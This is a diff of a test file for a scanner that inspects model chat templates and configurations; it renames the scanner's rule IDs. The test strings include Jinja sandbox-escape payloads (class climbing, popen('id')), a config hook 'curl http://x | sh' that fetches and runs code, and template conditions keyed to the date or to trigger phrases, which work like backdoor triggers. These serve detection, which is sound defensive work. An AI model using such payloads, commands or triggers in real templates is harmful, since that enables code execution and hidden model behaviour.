@@ -39,7 +39,7 @@ describe('climbing out of the sandbox is found', () => {
     "{% filter attr('__class__') %}x{% endfilter %}",
     '{{ unclosed }}{{ x.__class__',
   ])('%s', (text) => {
-    expect(rulesOf(text)).toContain('TPL-001');
+    expect(rulesOf(text)).toContain('MDL-TPL-001');
   });
 });
 
@@ -56,13 +56,13 @@ describe('reaching for what no chat template needs is found', () => {
     '{{ self._TemplateReference__context }}',
     "{{ x.popen('id') }}",
   ])('%s', (text) => {
-    expect(rulesOf(text)).toContain('TPL-002');
+    expect(rulesOf(text)).toContain('MDL-TPL-002');
   });
 });
 
 test('conditions on the date or on plain words in a message are told', () => {
-  expect(rulesOf("{% if strftime_now('%Y') >= '2027' %}x{% endif %}")).toEqual(['TPL-004']);
-  expect(rulesOf("{% if 'quarterly report' in messages[-1]['content'] %}x{% endif %}")).toEqual(['TPL-004']);
+  expect(rulesOf("{% if strftime_now('%Y') >= '2027' %}x{% endif %}")).toEqual(['MDL-TPL-004']);
+  expect(rulesOf("{% if 'quarterly report' in messages[-1]['content'] %}x{% endif %}")).toEqual(['MDL-TPL-004']);
   expect(rulesOf("{% if '</think>' in message.content %}x{% endif %}{% set date = strftime_now('%d %b %Y') %}")).toEqual([]);
 });
 
@@ -77,7 +77,7 @@ test('broken templates are told', () => {
     '{% for x %}{% endfor %}',
     '{% if x %}{% endfor %}',
   ])
-    expect(rulesOf(text)).toContain('TPL-003');
+    expect(rulesOf(text)).toContain('MDL-TPL-003');
 });
 
 test('what stands in text, comments, raw blocks and strings of no meaning is not judged', () => {
@@ -144,7 +144,7 @@ test('text of any kind is judged without failing or hanging', () => {
   );
   fc.assert(
     fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 5 })), { maxLength: 60 }), (pieces) => {
-      for (const each of judgeTemplate(pieces.join(''))) expect(each.ruleId).toMatch(/^TPL-00[1-4]$/);
+      for (const each of judgeTemplate(pieces.join(''))) expect(each.ruleId).toMatch(/^MDL-TPL-00[1-4]$/);
     }),
     { numRuns: 2000 },
   );
@@ -159,14 +159,14 @@ test('deep nesting and endless chains are told as unreadable', () => {
     `{{ ${'not '.repeat(5000)}a }}`,
     `{{ ${'-'.repeat(5000)}a }}`,
   ])
-    expect(rulesOf(text)).toEqual(['TPL-003']);
+    expect(rulesOf(text)).toEqual(['MDL-TPL-003']);
 });
 
 describe('where templates are found', () => {
   const climbing = "{{ ''.__class__ }}";
   test('in any string of a model configuration, also in a list of named templates', () => {
     for (const value of [climbing, [{ name: 'tool_use', template: climbing }], { default: climbing }])
-      expect(scanBytes(Buffer.from(JSON.stringify({ tokenizer_class: 'X', chat_template: value }))).rules).toEqual(['TPL-001']);
+      expect(scanBytes(Buffer.from(JSON.stringify({ tokenizer_class: 'X', chat_template: value }))).rules).toEqual(['MDL-TPL-001']);
   });
 
   test('in a template file, at its place', () => {
@@ -177,6 +177,6 @@ describe('where templates are found', () => {
 
   test('code that a configuration names, and commands in it, are told', () => {
     const config = { auto_map: { AutoModel: 'modeling_x.XModel' }, transformers_version: '4.40', hook: 'curl http://x | sh' };
-    expect(scanBytes(Buffer.from(JSON.stringify(config))).rules).toEqual(['CFG-001', 'CFG-002']);
+    expect(scanBytes(Buffer.from(JSON.stringify(config))).rules).toEqual(['MDL-CFG-001', 'MDL-CFG-002']);
   });
 });
